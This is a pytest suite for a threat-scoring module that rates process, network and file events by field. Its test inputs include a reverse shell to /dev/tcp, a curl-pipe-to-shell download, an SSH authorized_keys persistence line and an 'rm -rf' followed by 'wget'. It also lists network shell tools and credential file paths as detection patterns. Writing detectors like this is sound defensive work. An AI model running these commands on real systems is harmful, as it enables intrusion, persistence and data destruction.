"""
goal: each field checker scores one value against its rule table, and absent fields score 0.
"""

from __future__ import annotations

import pytest

from threatscore import checkers


@pytest.mark.parametrize(
    "func",
    [
        checkers.check_executable,
        checkers.check_process_name,
        checkers.check_command_line,
        checkers.check_user,
        checkers.check_action,
        checkers.check_port,
        checkers.check_ip,
        checkers.check_protocol,
        checkers.check_direction,
        checkers.check_file_path,
        checkers.check_file_operation,
    ],
)
def test_absent_field_scores_zero(func):
    assert func(None) == 0


@pytest.mark.parametrize(
    "executable, expected",
    [
        ("/bin/bash", 6),
        ("/bin/sh", 6),
        ("/usr/bin/sh", 6),
        ("/bin/zsh", 4),
        ("/usr/bin/python3", 4),
        ("/usr/bin/ncat", 4),
        ("/tmp/payload", 8),
        ("/var/tmp/x", 8),
        ("/usr/local/bin/node", 0),
    ],
)
def test_check_executable(executable, expected):
    assert checkers.check_executable(executable) == expected


def test_check_executable_first_match_follows_table_order():
    # "/bin/bash" comes before "/tmp/" in the table
    assert checkers.check_executable("/tmp/bin/bash") == 6


@pytest.mark.parametrize(
    "name, expected",
    [
        ("sh", 5),
        ("bash", 5),
        ("zsh", 5),
        ("nc", 7),
        ("socat", 7),
        ("dash", 3),
        ("php", 3),
        ("rsync", 3),
        ("Bash", 0),
        ("bash5", 0),
        ("nginx", 0),
    ],
)
def test_check_process_name_exact_match(name, expected):
    assert checkers.check_process_name(name) == expected


@pytest.mark.parametrize(
    "command_line, expected",
    [
        ("ls -la", 0),
        ("ls --help", -2),
        ("bash -c 'id'", 4),
        ("curl http://e | sh", 7),
        ("echo key >> /root/.ssh/authorized_keys", 3),
        ("a; b; c", 2),
        ("a || b", 3),
        ("bash -i >& /dev/tcp/1.2.3.4/4444 0>&1", 3 + 7),
        ("rm -rf /tmp && wget http://x", 17),
    ],
)
def test_check_command_line(command_line, expected):
    assert checkers.check_command_line(command_line) == expected


def test_check_command_line_can_combine_negative_weights():
    assert checkers.check_command_line("--help -c") == 2


def test_check_command_line_long_bonus():
    assert checkers.check_command_line("x" * 200) == 0
    assert checkers.check_command_line("x" * 201) == 3


@pytest.mark.parametrize(
    "user, expected",
    [
        ("root", 3),
        ("nobody", 2),
        ("www-data", 2),
        ("1001", 4),
        ("0", 4),
        ("", 4),
        ("alice", 0),
        ("100a", 0),
    ],
)
def test_check_user(user, expected):
    assert checkers.check_user(user) == expected


def test_check_action():
    assert checkers.check_action("suspicious_activity") == 3
    assert checkers.check_action("login") == 0


@pytest.mark.parametrize(
    "port, expected",
    [
        (22, 6),
        (4444, 6),
        (9999, 6),
        (80, 3),
        (443, 3),
        (31337, 2),
        (65534, 2),
        (10000, 0),
        (65535, 0),
        (8080, 0),
        (0, 0),
        (2**32 + 22, 0),
        (-1, 0),
    ],
)
def test_check_port(port, expected):
    assert checkers.check_port(port) == expected


@pytest.mark.parametrize(
    "ip, private",
    [
        ("10.1.2.3", True),
        ("192.168.0.1", True),
        ("172.16.0.1", True),
        ("172.31.255.255", True),
        ("172.15.0.1", False),
        ("172.32.0.1", False),
        ("8.8.8.8", False),
        ("127.0.0.1", False),
    ],
)
def test_is_private_ip(ip, private):
    assert checkers.is_private_ip(ip) is private


@pytest.mark.parametrize(
    "ip, expected",
    [
        ("8.8.8.8", 4),
        ("localhost", 4),
        ("127.0.0.1", 0),
        ("0.0.0.0", 0),
        ("10.0.0.5", 2),
        ("192.168.1.20", 2),
        ("192.168.2.1", 0),
        ("10.1.1.1", 0),
        ("172.20.0.1", 0),
    ],
)
def test_check_ip(ip, expected):
    assert checkers.check_ip(ip) == expected


def test_check_protocol_and_direction():
    assert checkers.check_protocol("tcp") == 1
    assert checkers.check_protocol("udp") == 0
    assert checkers.check_direction("outbound") == 2
    assert checkers.check_direction("inbound") == 0


@pytest.mark.parametrize(
    "path, expected",
    [
        ("/etc/passwd", 8),
        ("/etc/shadow", 8),
        ("/etc/sudoers", 9),
        ("/etc/sudoers.d/90-cloud", 9),
        ("/root/.bashrc", 7),
        ("/home/alice/.ssh/authorized_keys", 6),
        ("/dev/shm/x", 4),
        ("/tmp/.hidden", 4),
        ("/home/alice/.bashrc", 2),
        ("/var/log/syslog", 0),
    ],
)
def test_check_file_path(path, expected):
    assert checkers.check_file_path(path) == expected


@pytest.mark.parametrize(
    "operation, expected",
    [
        ("write", 3),
        ("create", 3),
        ("delete", 5),
        ("unlink", 5),
        ("chmod", 4),
        ("chown", 4),
        ("rename", 2),
        ("move", 2),
        ("read", 0),
    ],
)
def test_check_file_operation(operation, expected):
    assert checkers.check_file_operation(operation) == expected
